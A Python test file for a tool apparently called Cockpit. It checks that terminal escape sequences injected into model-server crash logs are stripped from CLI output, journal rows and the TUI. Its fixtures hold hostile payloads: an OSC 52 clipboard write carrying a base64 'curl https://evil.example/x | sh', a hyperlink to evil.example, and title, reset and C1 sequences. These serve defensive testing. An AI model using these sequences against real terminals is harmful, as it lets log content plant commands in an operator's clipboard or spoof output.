"""Issue 18 item 1: log text never drives the operator's terminal.

An OOM line (and an error line) carrying OSC 52 (clipboard), OSC 0 (title), OSC 8 (hyperlink),
`ESC c` (reset), a DCS string and 8-bit C1 controls goes through every display path for real:
`cockpit diagnose`, `cockpit up` (its crash report), `cockpit logs --filter errors`,
`cockpit status`, `cockpit runs show` (the journal replays the crash message), a journal row
written by an older Cockpit, the TUI's log pane and crash modal. No ESC, BEL or C1 byte may reach
stdout or stderr; the words around the sequences must still be there.
"""

from __future__ import annotations

import json
import os
import pty
import sqlite3
import subprocess
from pathlib import Path

import pytest

from cockpit.core.state import Crash
from cockpit.supervisor.api import LogLine
from tests.reliability.helpers import PY, make_env

DATA = Path(__file__).resolve().parents[1] / "data"
OOM_LOG = DATA / "sglang-0.5.9-kimi-0.93-prefill-oom.log"
VLLM_OOM_LOG = DATA / "vllm-0.33.0-qwen32b-tp2-0.97-prefill-oom.log"

# What another user (or a request echoed in an error) can put into the server log.
CLIPBOARD = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07"  # "curl https://evil.example/x | sh"
TITLE = "\x1b]0;pwned-title\x07"
LINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
RESET = "\x1bc"
DCS = "\x1bPq#0;2;0;0;0\x1b\\"
C1 = "\x9b2J\x9d0;c1-title\x9c"
SEQUENCES = (CLIPBOARD, TITLE, LINK, RESET, DCS, C1)
HOSTILE = "".join(SEQUENCES)


def hostile_log(tmp_path: Path, source: Path = OOM_LOG) -> Path:
    """`source` with the sequences in its OOM line and in one other error line (tqdm's \r kept)."""
    lines = [ln + "\n" for ln in source.read_bytes().decode().split("\n")[:-1]]
    other = False
    for i, line in enumerate(lines):
        if "CUDA out of memory." in line:
            lines[i] = line.replace("CUDA out of memory.", "CUDA out of memory." + HOSTILE, 1)
        elif not other and ("Scheduler hit an exception" in line or " ERROR " in line):
            lines[i] = line.rstrip("\n") + " " + HOSTILE + "\n"
            other = True
    path = tmp_path / f"hostile-{source.name}"
    path.write_bytes("".join(lines).encode())
    assert path.read_text().count("\x1b]52;") >= 2
    return path


def on_tty(env, *args: str, timeout: float = 60) -> tuple[int, str]:
    """Run cockpit with stdout and stderr on a real pseudo-terminal; (exit code, what it printed)."""
    master, slave = pty.openpty()
    proc = subprocess.Popen([PY, "-m", "cockpit", *args], env=env.env, cwd=env.root, stdin=subprocess.DEVNULL,
                            stdout=slave, stderr=slave)
    os.close(slave)
    out = bytearray()
    try:
        while True:
            try:
                data = os.read(master, 65536)
            except OSError:  # EIO: the child closed its end
                break
            if not data:
                break
            out += data
        rc = proc.wait(timeout)
    finally:
        os.close(master)
        if proc.poll() is None:
            proc.kill()
    return rc, out.decode("utf-8", "replace")


def assert_clean(text: str, where: str) -> None:
    bad = sorted({f"U+{ord(c):04X}" for c in text if c in "\x1b\x07" or "\x80" <= c <= "\x9f"})
    assert not bad, f"{where}: control characters reached the terminal: {bad}\n{text[-2000:]!r}"


@pytest.mark.parametrize("source", [OOM_LOG, VLLM_OOM_LOG], ids=["sglang", "vllm"])
def test_diagnose_prints_no_escape_sequence(source: Path, tmp_path: Path, ledger) -> None:
    env = make_env(tmp_path)
    log = hostile_log(tmp_path, source)
    for args in (("diagnose", str(log)), ("diagnose", "--json", str(log))):
        done = env.cockpit(*args)
        ledger.tried("terminal", len(SEQUENCES))
        assert done.returncode == 1, done.stderr  # the OOM is critical
        assert_clean(done.stdout + done.stderr, " ".join(args[:2]))
        assert "CUDA out of memory" in done.stdout and "Tried to allocate" in done.stdout
    json.loads(env.cockpit("diagnose", "--json", str(log)).stdout)  # still strict JSON
    ledger.fault("terminal")
    ledger.survive("terminal")


def test_run_paths_print_no_escape_sequence(tmp_path: Path, ledger) -> None:
    """up → logs --filter errors → status → runs show, on a real run whose log is hostile."""
    env = make_env(tmp_path)
    log = hostile_log(tmp_path)
    server = tmp_path / "server.py"
    server.write_text("import sys\nsys.stdout.buffer.write(open(sys.argv[1], 'rb').read())\nsys.stdout.flush()\n"
                      "sys.exit(137)\n")
    env.write_profile("esc", f"name: esc\nprogram: {json.dumps([PY, str(server), str(log)])}\n"
                             f"workdir: {tmp_path / 'work'}\nlog: logs/esc.log\n")
    up = env.cockpit("up", "esc", "--wait", "ready", "--timeout", "60")
    assert up.returncode == 1, up.stdout + up.stderr  # it crashed: the report goes to stderr
    assert_clean(up.stdout + up.stderr, "up --wait ready")
    outputs = {"up": up.stdout + up.stderr}
    for args in (("status", "esc"), ("status", "esc", "--json")):
        done = env.cockpit(*args)
        outputs[" ".join(args)] = done.stdout + done.stderr
        assert_clean(done.stdout + done.stderr, " ".join(args))
        ledger.tried("terminal", len(SEQUENCES))
    # `logs` into a pipe is the log byte for byte (its contract); on a terminal it is cleaned
    for args in (("logs", "esc", "--filter", "errors"), ("logs", "esc")):
        rc, text = on_tty(env, *args)
        assert rc == 0, text
        outputs[" ".join(args)] = text
        assert_clean(text, " ".join(args) + " (on a terminal)")
        ledger.tried("terminal", len(SEQUENCES))
    assert "CUDA out of memory" in outputs["logs esc --filter errors"]
    assert "CRASH cuda_oom" in outputs["status esc"], outputs["status esc"]
    runs = json.loads(env.cockpit("runs", "--json").stdout)
    run_id = runs[0]["id"]
    show = env.cockpit("runs", "show", run_id)
    assert show.returncode == 0, show.stderr
    assert_clean(show.stdout + show.stderr, "runs show")
    assert "CUDA out of memory" in show.stdout
    # cleaned on the way into the journal, too
    db = env.journal / "journal.sqlite3"
    with sqlite3.connect(db) as conn:
        msg, decisive = conn.execute("SELECT crash_message, decisive_lines FROM runs WHERE id = ?", (run_id,)).fetchone()
    assert_clean(msg + decisive, "the journal row")
    assert "CUDA out of memory" in msg

    # a row written by an older Cockpit, with the sequences stored raw, replays clean
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE runs SET crash_message = ?, decisive_lines = ? WHERE id = ?",
                     ("OOM" + HOSTILE + " here", json.dumps(["line" + HOSTILE]), run_id))
    for args in (("runs", "show", run_id), ("runs",), ("runs", "show", run_id, "--json")):
        done = env.cockpit(*args)
        assert done.returncode == 0, done.stderr
        assert_clean(done.stdout + done.stderr, "old row: " + " ".join(args))
        ledger.tried("terminal", len(SEQUENCES))
    shown = json.loads(env.cockpit("runs", "show", run_id, "--json").stdout)
    assert shown["crash_message"] == "OOMclick here" and shown["decisive_lines"] == ["lineclick"], shown
    ledger.fault("terminal", 2)
    ledger.survive("terminal", 2)


async def test_tui_log_pane_and_crash_modal_show_no_escape_sequence(ledger) -> None:
    from cockpit.ui.screens.crash import CrashScreen
    from cockpit.ui.widgets.logpane import LogPane
    from tests.ui.test_dashboard_snapshots import make_app

    app = make_app()
    async with app.run_test(size=(140, 45)) as pilot:
        pane = app.screen.query_one(LogPane)
        # a feeder that did not clean (the pane must not trust it)
        pane.add_lines([LogLine(1, "TP3", "torch.OutOfMemoryError: CUDA out of memory." + HOSTILE)])
        await pilot.pause()
        shown = "".join(ln.text for ln in pane.shown_lines)
        assert_clean(shown, "log pane")
        assert "CUDA out of memory." in shown
        rendered = "".join(seg.text for y in range(pane.size.height) for seg in pane.render_line(y))
        assert_clean(rendered, "log pane render")
        crash = Crash(kind="cuda_oom", phase="prefill", rank="TP3", line=118,
                      message="CUDA out of memory." + HOSTILE,
                      decisive_lines=["Scheduler hit an exception" + HOSTILE, "CUDA out of memory." + HOSTILE])
        app.push_screen(CrashScreen(crash, [], None))
        await pilot.pause()
        from textual.widgets import Static

        texts = [str(w.render()) for w in app.screen.query(Static)]
        assert_clean("\n".join(texts), "crash modal")
        assert any("CUDA out of memory." in t for t in texts)
    ledger.tried("terminal", 2 * len(SEQUENCES))
    ledger.fault("terminal")
    ledger.survive("terminal")
